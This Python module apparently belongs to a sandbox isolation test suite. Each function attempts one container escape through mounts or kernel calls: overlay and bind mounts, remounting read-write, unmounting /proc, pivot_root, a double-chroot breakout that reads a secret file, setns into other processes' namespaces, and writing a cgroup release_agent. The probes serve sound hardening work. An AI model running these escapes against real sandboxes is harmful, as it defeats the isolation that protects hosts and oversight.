"""Attempts at the host's files by way of mounts: to make one, move one, or enter another's."""

from __future__ import annotations

import ctypes
import os

from .driver import LIBC, Facts, Refused, attempt, mount, private_mounts, syscall
from .paths import can_write, pids, read

AT_FDCWD = -100


def _folder() -> str:
    private_mounts()
    place = f"place-{os.getpid()}"
    os.mkdir(place)
    return place


@attempt
def mount_a_tmpfs(facts: Facts) -> str:
    mount("none", _folder(), "tmpfs")
    return "mounted a tmpfs"


@attempt
def mount_proc(facts: Facts) -> str:
    mount("proc", _folder(), "proc")
    return "mounted another /proc"


@attempt
def mount_sysfs(facts: Facts) -> str:
    mount("sysfs", _folder(), "sysfs")
    return "mounted /sys"


@attempt
def mount_an_overlay(facts: Facts) -> str:
    place = _folder()
    for name in ("up", "work"):
        os.mkdir(f"{place}-{name}")
    here = os.getcwd()
    data = f"lowerdir=/usr,upperdir={here}/{place}-up,workdir={here}/{place}-work"
    # upper on a tmpfs, since an overlay on an overlay is refused for other reasons
    base = f"{here}/{place}-base"
    os.mkdir(base)
    mount("none", base, "tmpfs")
    for name in ("up", "work"):
        os.mkdir(f"{base}/{name}")
    data = f"lowerdir=/usr,upperdir={base}/up,workdir={base}/work"
    mount("overlay", place, "overlay", 0, data)
    return "mounted an overlay over /usr"


@attempt
def bind_mount_the_root(facts: Facts) -> str:
    bind_and_below = 0x5000
    mount("/", _folder(), "none", bind_and_below)
    return "bound / to another place"


@attempt
def remount_writable(facts: Facts) -> str:
    private_mounts()
    remount_bind = 0x1020
    mount("none", "/usr" if os.path.ismount("/usr") else "/", "none", remount_bind)
    return "remounted read-write"


@attempt
def mount_by_the_new_calls(facts: Facts) -> str:
    """open_tree copies a mount without mount(2)."""
    private_mounts()
    clone = 1
    fd = syscall((428, 428), ctypes.c_long(AT_FDCWD), b"/", clone)
    return f"open_tree gave descriptor {fd}"


@attempt
def open_a_file_system(facts: Facts) -> str:
    private_mounts()
    return f"fsopen gave descriptor {syscall((430, 430), b'tmpfs', 0)}"


@attempt
def unmount_what_hides(facts: Facts) -> str:
    """Take mounts away, to see what lies under them."""
    private_mounts()
    detach = 2
    for place in ("/testbed", "/tmp", "/home/user", "/dev", "/sys", "/proc"):
        if os.path.ismount(place):
            syscall((166, 39), place.encode(), detach)
            return f"unmounted {place}"
    raise Refused("nothing is mounted", "no mounts to remove")


@attempt
def pivot_the_root(facts: Facts) -> str:
    place = _folder()
    mount("none", place, "tmpfs")
    os.mkdir(f"{place}/old")
    syscall((155, 41), place.encode(), f"{place}/old".encode())
    return "pivot_root"


@attempt
def chroot_and_climb(facts: Facts) -> str:
    """The old way out of a chroot: a second one, with a folder open above it."""
    place = f"jail-{os.getpid()}"
    os.mkdir(place)
    top = os.open(".", os.O_RDONLY)
    os.chroot(place)
    os.fchdir(top)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(facts["secret"])


@attempt
def enter_a_namespace(facts: Facts) -> str:
    """setns into the mount namespace of every process that can be seen."""
    mine, last = os.readlink("/proc/self/ns/mnt"), "no other namespace is seen"
    for pid in pids():
        try:
            path = f"/proc/{pid}/ns/mnt"
            if os.readlink(path) == mine and pid != "1":
                continue
            fd = os.open(path, os.O_RDONLY)
            syscall((308, 268), fd, 0)
            return f"entered the namespace of process {pid}"
        except OSError as error:
            last = f"process {pid}: {error.strerror}"
    raise Refused(last, "seccomp filter, no capability")


@attempt
def write_release_agent(facts: Facts) -> str:
    """Of a cgroup v1 hierarchy: a program that the host's kernel runs as root."""
    private_mounts()
    place = f"cg-{os.getpid()}"
    os.mkdir(place)
    mount("none", place, "cgroup", 0, facts["cgroup_v1"] or "cpu")
    try:
        return can_write(f"{place}/release_agent")
    finally:
        LIBC.umount2(place.encode(), 2)
